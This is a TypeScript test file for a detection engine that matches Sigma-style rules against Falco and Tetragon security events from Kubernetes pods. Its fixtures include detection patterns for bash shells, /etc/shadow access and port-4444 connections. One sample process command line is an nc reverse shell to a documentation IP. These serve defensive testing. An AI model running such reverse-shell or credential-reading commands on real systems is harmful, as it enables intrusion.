import { describe, expect, test } from 'vitest';
import { createDetectRoom } from '../../src/detect/detect-room.ts';
import type { Finding } from '../../src/model/finding.ts';
import type { SecurityEvent } from '../../src/model/security-event.ts';
import {
  batchOf,
  buildAlert,
  buildEvent,
  buildPod,
  buildProcess,
  controlStep,
  eventStep,
  rulesStep,
} from './build-event.ts';

const detection = (title: string, logsource: string, selection: string): string => `
title: ${title}
id: ${title}
logsource: {product: linux, ${logsource}}
detection:
  s: ${selection}
  condition: s
level: high
tags: [attack.privilege_escalation, attack.t1611]
eyrie: {runbook: [1. Look.]}
`;

const FILES = [
  {
    path: 'a.yml',
    text: [
      detection('shell', 'category: process_creation', "{Image|endswith: '/bash'}"),
      detection('shadow', 'category: file_event', '{TargetFilename: /etc/shadow}'),
      detection('outside', 'category: network_connection', '{DestinationPort: 4444}'),
      detection('ours', 'service: falco', '{output_fields.proc.tty: 34816}'),
      detection('probe', 'service: tetragon', '{function_name: tcp_connect}'),
    ].join('---\n'),
  },
  {
    path: 'falco-levels.yml',
    text: 'Terminal: {level: high, tactics: [execution]}\nNoise: informational\n',
  },
];

const falco = (id: string, change: Parameters<typeof buildAlert>[0]): SecurityEvent =>
  buildEvent({ id, sensor: 'falco', kind: 'alert', alert: buildAlert(change) });

function findingsOf(
  event: SecurityEvent,
  enrichment = batchOf([]).enrichments[0] ?? null,
): readonly Finding[] {
  const room = createDetectRoom();
  const steps = [rulesStep(FILES), eventStep(event)];
  return room.step(batchOf(steps, () => enrichment)).findings[1] ?? [];
}

const ruleIds = (event: SecurityEvent): string[] => findingsOf(event).map(({ ruleId }) => ruleId);

const connect = {
  functionName: 'tcp_connect',
  policyName: null,
  action: null,
  message: null,
  returnAction: null,
  tags: [],
  returnValue: null,
  arguments: [],
  data: [],
  path: null,
  offset: null,
  imaHash: null,
  buildId: null,
};
const network = {
  protocol: null,
  sourceIp: null,
  sourcePort: null,
  destinationIp: '203.0.113.6',
  destinationPort: 4444,
};

describe('which rules see which events', () => {
  test('a start of a process', () => {
    expect(ruleIds(buildEvent({ id: '1' }))).toEqual(['shell']);
  });

  test('a connection is one for its category and for its sensor', () => {
    const event = buildEvent({ id: '1', kind: 'kprobe', hook: connect, network });
    expect(ruleIds(event)).toEqual(['outside', 'probe']);
  });

  test('a file that a kprobe names', () => {
    const hook = { ...connect, functionName: 'fd_install' };
    expect(ruleIds(buildEvent({ id: '1', kind: 'kprobe', hook, file: '/etc/shadow' }))).toEqual([
      'shadow',
    ]);
  });

  test('an alert about a start of a process', () => {
    const fields = new Map<string, string | number>([
      ['evt.type', 'execve'],
      ['proc.tty', 34_816],
    ]);
    expect(ruleIds(falco('1', { fields }))).toEqual(['falco/A rule', 'shell', 'ours']);
  });

  test('the end of a process is no start', () => {
    expect(ruleIds(buildEvent({ id: '1', kind: 'exit' }))).toEqual([]);
  });

  test('what ran before the sensor is no finding', () => {
    expect(ruleIds(buildEvent({ id: '1', flags: ['baseline'] }))).toEqual([]);
  });
});

describe("Falco's alerts", () => {
  test.each([
    ['emergency', 'critical'],
    ['alert', 'critical'],
    ['critical', 'critical'],
    ['error', 'high'],
    ['warning', 'medium'],
    ['notice', 'low'],
    ['informational', 'informational'],
    ['debug', 'informational'],
    ['unknown', 'medium'],
  ])('priority %s is level %s', (priority, level) => {
    expect(findingsOf(falco('1', { priority }))[0]).toMatchObject({ kind: 'alert', level });
  });

  test('known rules have levels of their own and more tactics', () => {
    const [finding] = findingsOf(
      falco('1', { rule: 'Terminal', priority: 'notice', tags: ['mitre_discovery', 'T1059', 'x'] }),
    );
    expect(finding).toMatchObject({
      ruleId: 'falco/Terminal',
      title: 'Terminal',
      level: 'high',
      tactics: ['discovery', 'execution'],
      techniques: ['T1059'],
    });
  });
});

describe('what a finding says', () => {
  const enrichment = { pod: buildPod({}), lineage: null, join: null };

  test('who did what where', () => {
    const event = buildEvent({
      id: '1',
      process: buildProcess({ arguments: '-i' }),
      parent: buildProcess({ binary: '/usr/sbin/nginx' }),
    });
    const [finding] = findingsOf(event, enrichment);
    expect(finding?.sentence).toBe('bash -i (child of nginx) ran in shop/web-1');
    expect(finding).toMatchObject({
      kind: 'detection',
      level: 'high',
      tactics: ['privilege-escalation'],
      techniques: ['T1611'],
      entity: { kind: 'pod', key: 'pod:default/uid/uid-1', label: 'shop/web-1' },
      runbook: ['1. Look.'],
      evidence: [],
      merge: false,
      groupKey: null,
    });
  });

  test.each([
    ['nc', 'nc -e /bin/sh 198.51.100.7', '-e /bin/sh 198.51.100.7'],
    ['kworker u8', 'kworker u8', ''],
  ])('a process without an executable is still called %s', (binary, commandLine, args) => {
    const process = buildProcess({ binary: '', commandLine, arguments: args });
    const [finding] = findingsOf({ ...falco('1', {}), process });
    expect(finding?.process).toMatchObject({ binary, arguments: args });
    expect(finding?.sentence).toContain(commandLine);
  });

  test('control characters and direction marks are shown, not acted on', () => {
    const args = '-c \u001B[2Jx\u202Ey\nz';
    const [finding] = findingsOf(
      buildEvent({ id: '1', process: buildProcess({ arguments: args }) }),
    );
    expect(finding?.sentence).toBe(String.raw`bash -c \x1b[2Jx\u{202e}y\nz ran in node-1`);
  });

  test('without a pod it is about the container, else the node', () => {
    const container = { id: '0123456789abcdef', name: null, image: null };
    expect(findingsOf(buildEvent({ id: '1', container }))[0]?.entity).toEqual({
      kind: 'container',
      key: 'container:default/0123456789ab',
      label: '0123456789ab',
    });
    expect(findingsOf(buildEvent({ id: '1' }))[0]?.entity.label).toBe('node-1');
    expect(findingsOf(buildEvent({ id: '1', node: '' }))[0]?.entity.label).toBe('unknown node');
  });

  test('several candidates are no pod', () => {
    const ambiguous = { pod: buildPod({ state: 'ambiguous' }), lineage: null, join: null };
    expect(findingsOf(buildEvent({ id: '1' }), ambiguous)[0]?.entity.kind).toBe('node');
  });

  test('the id depends on rule and event alone', () => {
    const ids = [enrichment, null].map(
      (known) => findingsOf(buildEvent({ id: '1' }), known)[0]?.id,
    );
    expect(new Set(ids).size).toBe(1);
    expect(findingsOf(buildEvent({ id: '2' }))[0]?.id).not.toBe(ids[0]);
  });
});

describe('the rules in force', () => {
  test('hold from their record on, and a disabled rule stays out until the rules change', () => {
    const room = createDetectRoom();
    const disable = controlStep({ kind: 'rule-disabled', ruleId: 'shell', reason: 'slow' });
    const steps = [
      eventStep(buildEvent({ id: '1' })),
      rulesStep(FILES),
      eventStep(buildEvent({ id: '2' })),
      disable,
      eventStep(buildEvent({ id: '3' })),
      rulesStep(FILES),
      eventStep(buildEvent({ id: '4' })),
      rulesStep(FILES, 'h2'),
      eventStep(buildEvent({ id: '5' })),
    ];
    const found = room.step(batchOf(steps)).findings.map(({ length }) => length);
    expect(found).toEqual([0, 0, 1, 0, 0, 0, 0, 0, 1]);
  });

  test('a snapshot at any cut goes on alike', () => {
    const disable = controlStep({ kind: 'rule-disabled', ruleId: 'falco/Noise', reason: 'slow' });
    const steps = [
      rulesStep(FILES),
      eventStep(buildEvent({ id: '1' })),
      eventStep(falco('2', { rule: 'Noise' })),
      disable,
      eventStep(falco('3', { rule: 'Noise' })),
      eventStep(buildEvent({ id: '4' })),
    ];
    const whole = createDetectRoom().step(batchOf(steps)).findings;
    expect(whole.map(({ length }) => length)).toEqual([0, 1, 1, 0, 0, 1]);
    for (let cut = 0; cut <= steps.length; cut += 1) {
      const before = createDetectRoom();
      const head = before.step(batchOf(steps.slice(0, cut))).findings;
      const after = createDetectRoom();
      after.restore(structuredClone(before.snapshot()));
      const tail = after.step(batchOf(steps.slice(cut))).findings;
      expect([...head, ...tail]).toEqual(whole);
    }
  });

  test('progress names the record and nothing after the batch', () => {
    const room = createDetectRoom();
    room.step(batchOf([rulesStep(FILES), eventStep(buildEvent({ id: '1' }))]));
    expect(room.progress).toEqual({ record: null, ruleId: null });
  });
});
